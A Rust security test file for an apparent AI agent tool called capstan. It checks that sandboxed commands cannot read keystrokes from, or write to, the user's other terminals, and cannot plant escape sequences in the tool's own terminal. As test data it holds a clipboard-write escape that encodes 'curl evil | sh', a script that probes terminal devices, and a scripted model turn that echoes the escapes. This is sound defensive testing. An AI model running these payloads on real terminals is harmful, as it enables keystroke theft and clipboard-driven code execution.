//! A command reaches no terminal but the one it was given (issue 27, item
//! 1): not another terminal of the user, whose keys it could read and on
//! which it could write, and not capstan's own, on which an escape sequence
//! (a clipboard write, a window title) would be obeyed. Each attack runs
//! through the real binary, with and without namespaces, and is judged by
//! what the terminal received and what it kept.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::support;

use std::fs::File;
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::mpsc;
use std::time::Duration;

use nix::pty::{OpenptyResult, openpty};
use nix::sys::termios::{SetArg, cfmakeraw, tcgetattr, tcsetattr};
use serde_json::json;
use support::terminal::Terminal;
use support::{Env, MODEL_VARS, stderr, stdout};

/// What the user types on the other terminal while the command runs.
const SECRET_KEYS: &str = "hunter2-secret-keystrokes-5e1a\n";

/// What the test writes last on each side, to read up to.
const END: &str = "END-OF-TEST-9c04\n";

/// A clipboard write of `curl evil | sh` and a window title, as a command
/// would print them.
const OSC_ATTACK: &str = r"\033]52;c;Y3VybCBldmlsIHwgc2gK\007\033]0;pwned-title\007";

/// Whether the command gets namespaces.
#[derive(Clone, Copy, Debug)]
enum Namespaces {
    On,
    Off,
}

const BOTH: [Namespaces; 2] = [Namespaces::On, Namespaces::Off];

/// Writes the config choosing `namespaces` into `env`'s home.
fn configure(env: &Env, namespaces: Namespaces) {
    if let Namespaces::Off = namespaces {
        std::fs::write(
            env.home.path().join("config.toml"),
            "[exec]\nnamespaces = \"off\"\n",
        )
        .unwrap();
    }
}

/// `capstan exec -- bash -c SCRIPT bash ARGS...` with the system PATH.
fn exec_bash(env: &Env, script: &str, args: &[&str]) -> Output {
    let mut cmd = env.capstan_std();
    cmd.env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .args(["exec", "--", "bash", "-c", script, "bash"])
        .args(args);
    cmd.output().unwrap()
}

/// Another terminal of the user: a pseudo-terminal in raw mode (what is
/// written to one side arrives unchanged on the other, no echo), its
/// master (the terminal emulator's side), its slave (the shell's) and the
/// slave's path.
struct OtherTerminal {
    master: File,
    slave: File,
    path: PathBuf,
}

impl OtherTerminal {
    fn open() -> Self {
        let OpenptyResult { master, slave } = openpty(None, None).unwrap();
        let mut modes = tcgetattr(&slave).unwrap();
        cfmakeraw(&mut modes);
        tcsetattr(&slave, SetArg::TCSANOW, &modes).unwrap();
        let path = std::fs::read_link(format!("/proc/self/fd/{}", slave.as_raw_fd())).unwrap();
        assert!(path.starts_with("/dev/pts"), "{}", path.display());
        Self {
            master: File::from(master),
            slave: File::from(slave),
            path,
        }
    }

    /// Types `text` on the terminal, as its user would.
    fn type_keys(&mut self, text: &str) {
        self.master.write_all(text.as_bytes()).unwrap();
    }

    /// Everything programs wrote on the terminal since it was opened (what
    /// its user saw), read up to an end mark the test writes now.
    fn shown(&mut self) -> String {
        self.slave.write_all(END.as_bytes()).unwrap();
        read_to_end_mark(&self.master)
    }

    /// The keys typed on the terminal that no program has read yet, read
    /// up to an end mark the test types now.
    fn unread_keys(&mut self) -> String {
        self.master.write_all(END.as_bytes()).unwrap();
        read_to_end_mark(&self.slave)
    }
}

/// Reads `file` until [`END`] arrives; what came before it.
fn read_to_end_mark(file: &File) -> String {
    let mut file = file.try_clone().unwrap();
    let (sender, received) = mpsc::channel();
    std::thread::spawn(move || {
        let mut bytes = Vec::new();
        let mut buffer = [0u8; 4096];
        while !String::from_utf8_lossy(&bytes).contains(END) {
            match file.read(&mut buffer) {
                Ok(0) | Err(_) => break,
                Ok(n) => bytes.extend_from_slice(&buffer[..n]),
            }
        }
        let _ = sender.send(String::from_utf8_lossy(&bytes).into_owned());
    });
    let text = received
        .recv_timeout(Duration::from_secs(20))
        .expect("the end mark came back");
    let end = text.find(END).expect("the end mark");
    text[..end].to_string()
}

/// Every way a shell and a program would write on terminal `$1` and read
/// its keys, each saying whether it got through.
const SECOND_TERMINAL_ATTACK: &str = r#"
T="$1"
if { printf 'PWNED-by-redirection\n' > "$T"; } 2>/dev/null; then echo "wrote $T"; else echo "write refused"; fi
if { timeout 3 dd if="$T" bs=200 count=1 status=none; } 2>/dev/null; then echo "read $T"; else echo "read refused"; fi
for t in /dev/tty /dev/pts/* /proc/$PPID/fd/0 /proc/$PPID/fd/1 /proc/$PPID/fd/2; do
  { printf 'PWNED-by-%s\n' "$t" > "$t"; } 2>/dev/null && echo "wrote $t"
done
python3 - "$T" <<'PY'
import os, select, sys
for name, flags in (("rw", os.O_RDWR), ("rw-noctty", os.O_RDWR | os.O_NOCTTY), ("ro", os.O_RDONLY)):
    try:
        fd = os.open(sys.argv[1], flags)
    except OSError as error:
        print("python open", name, "refused", error.errno)
        continue
    print("python opened", name)
    if flags != os.O_RDONLY:
        os.write(fd, b"PWNED-by-python\n")
    if select.select([fd], [], [], 2)[0]:
        print("python read", os.read(fd, 200))
PY
echo attack-done
"#;

#[test]
fn another_terminal_of_the_user_is_neither_written_nor_read() {
    for namespaces in BOTH {
        let env = Env::new();
        configure(&env, namespaces);
        let mut other = OtherTerminal::open();
        other.type_keys(SECRET_KEYS);
        let out = exec_bash(
            &env,
            SECOND_TERMINAL_ATTACK,
            &[other.path.to_str().unwrap()],
        );
        let said = format!("{}{}", stdout(&out), stderr(&out));
        assert!(said.contains("attack-done"), "{namespaces:?}: {said}");
        assert!(said.contains("write refused"), "{namespaces:?}: {said}");
        assert!(said.contains("read refused"), "{namespaces:?}: {said}");
        assert!(!said.contains("python opened"), "{namespaces:?}: {said}");
        assert!(!said.contains("hunter2"), "{namespaces:?}: {said}");
        // The effect: nothing was shown on the terminal, and the keys its
        // user typed are still there for the user's own program.
        let shown = other.shown();
        assert_eq!(shown, "", "{namespaces:?}: the terminal showed {shown:?}");
        assert_eq!(
            other.unread_keys(),
            SECRET_KEYS,
            "{namespaces:?}: the typed keys were read"
        );
    }
}

/// In namespaces a command still gets pseudo-terminals, of its own: a
/// devpts instance in which the first terminal is number 0 (the host's
/// holds this test's terminals and others). Without namespaces it gets
/// none: `/dev/ptmx` would make them among the user's.
#[test]
fn a_command_gets_pseudo_terminals_of_its_own_or_none() {
    let script = r#"python3 - <<'PY'
import os
try:
    master, slave = os.openpty()
except OSError as error:
    print("no pty", error.errno)
else:
    os.write(slave, b"own-pty-works\n")
    print(os.read(master, 100).decode().strip(), os.ttyname(slave))
PY"#;
    let env = Env::new();
    let out = exec_bash(&env, script, &[]);
    assert!(
        stdout(&out).contains("own-pty-works /dev/pts/0"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    let env = Env::new();
    configure(&env, Namespaces::Off);
    let out = exec_bash(&env, script, &[]);
    assert!(
        stdout(&out).contains("no pty"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
}

/// `capstan exec -- bash` at a terminal still reads commands from it: the
/// terminal it was given (its standard input) stays usable.
#[test]
fn a_command_at_a_terminal_still_reads_the_terminal_it_was_given() {
    for namespaces in BOTH {
        let env = Env::new();
        configure(&env, namespaces);
        let mut cmd = env.capstan_std();
        cmd.env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .args(["exec", "--", "bash"]);
        let mut terminal = Terminal::spawn(cmd);
        terminal.type_slowly("echo typed-$((40 + 2))\r");
        terminal.expect("typed-42");
        terminal.type_slowly("exit 7\r");
        let status = terminal.wait();
        assert_eq!(
            status.code(),
            Some(7),
            "{namespaces:?}: {}",
            terminal.screen()
        );
    }
}

/// The model's command, which tries to write a clipboard write and a
/// window title on capstan's terminal (its path read from `target-tty`)
/// every way it can, then prints them on its output, which capstan shows.
fn terminal_attack_command() -> String {
    format!(
        r#"T=$(cat target-tty)
for t in /dev/tty "$T" /dev/pts/* /proc/$PPID/fd/0 /proc/$PPID/fd/1 /proc/$PPID/fd/2; do
  if {{ printf '{OSC_ATTACK}' > "$t"; }} 2>/dev/null; then echo "reached $t"; else echo "refused $t"; fi
done
printf 'printed {OSC_ATTACK} end\n'"#
    )
}

/// The scripted model's turns: the attack, then an answer.
fn attack_script(env: &Env) -> PathBuf {
    let script = env.home.path().join("script.json");
    let turns = json!([
        { "text": "Running it.",
          "tool_calls": [ { "tool": "exec.run", "input": { "command": terminal_attack_command() } } ] },
        // The answer quotes the sequences back, as a model misled by the
        // output would.
        { "text": "The command is done. \u{1b}]52;c;Zm9v\u{7} \u{1b}]0;pwned-title\u{7}" }
    ]);
    std::fs::write(
        &script,
        json!({ "chunk_delay_ms": 5, "turns": turns }).to_string(),
    )
    .unwrap();
    script
}

/// capstan with the scripted model, in a terminal of its own.
fn capstan_in_a_terminal(env: &Env, script: &Path, args: &[&str]) -> Terminal {
    let mut cmd = env.capstan_std();
    for var in MODEL_VARS {
        cmd.env_remove(var);
    }
    cmd.env("NO_COLOR", "1")
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .arg("--model")
        .arg(format!("scripted:{}", script.display()))
        .args(args);
    let terminal = Terminal::spawn(cmd);
    std::fs::write(
        env.ws.path().join("target-tty"),
        terminal.path().to_str().unwrap(),
    )
    .unwrap();
    terminal
}

/// The session's transcripts, as one text.
fn transcripts(env: &Env) -> String {
    fn walk(dir: &Path, text: &mut String) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                walk(&path, text);
            } else if path.extension().is_some_and(|e| e == "jsonl") {
                text.push_str(&std::fs::read_to_string(&path).unwrap());
            }
        }
    }
    let mut text = String::new();
    walk(&env.home.path().join("sessions"), &mut text);
    text
}

/// Checks what capstan's terminal showed: no escape sequence of the
/// command's, which went everywhere refused and only as escaped text.
fn assert_terminal_kept_clean(env: &Env, terminal: &Terminal, what: &str) {
    let screen = terminal.screen();
    assert!(!screen.contains("\x1b]52"), "{what}: {screen:?}");
    assert!(!screen.contains("\x1b]0;pwned"), "{what}: {screen:?}");
    assert!(!screen.contains('\x07'), "{what}: {screen:?}");
    let told = transcripts(env);
    let tty = terminal.path().display().to_string();
    assert!(told.contains(&format!("refused {tty}")), "{what}: {told}");
    assert!(told.contains("refused /dev/tty"), "{what}: {told}");
    assert!(!told.contains("reached /"), "{what}: {told}");
    // The sequences printed on the output reached the model as they are
    // (JSON-escaped in the transcript): the command did run them.
    assert!(told.contains(r"printed \u001b]52;c;"), "{what}: {told}");
}

#[test]
fn the_models_command_cannot_write_escape_sequences_on_capstans_terminal() {
    for namespaces in BOTH {
        let env = Env::new();
        configure(&env, namespaces);
        let script = attack_script(&env);
        let mut terminal = capstan_in_a_terminal(&env, &script, &[]);
        terminal.expect("> ");
        terminal.type_slowly("run it\r");
        terminal.expect("The command is done.");
        terminal.expect("> ");
        // The user's own `!command` runs in the same sandbox, and its
        // output is shown escaped too.
        terminal.type_slowly(&format!(
            "!printf '{OSC_ATTACK}'; {{ printf '{OSC_ATTACK}' > \"$(cat target-tty)\"; }} 2>/dev/null || echo bang-$((6 * 7))-refused\r"
        ));
        terminal.expect("bang-42-refused");
        terminal.expect("> ");
        terminal.type_slowly("/exit\r");
        assert_eq!(terminal.wait().code(), Some(0), "{}", terminal.screen());
        assert_terminal_kept_clean(&env, &terminal, &format!("interactive, {namespaces:?}"));

        let env = Env::new();
        configure(&env, namespaces);
        let script = attack_script(&env);
        let mut terminal = capstan_in_a_terminal(&env, &script, &["-p", "run it"]);
        let status = terminal.wait();
        assert_eq!(status.code(), Some(0), "{}", terminal.screen());
        assert!(terminal.screen().contains("The command is done."));
        assert_terminal_kept_clean(&env, &terminal, &format!("-p, {namespaces:?}"));
    }
}
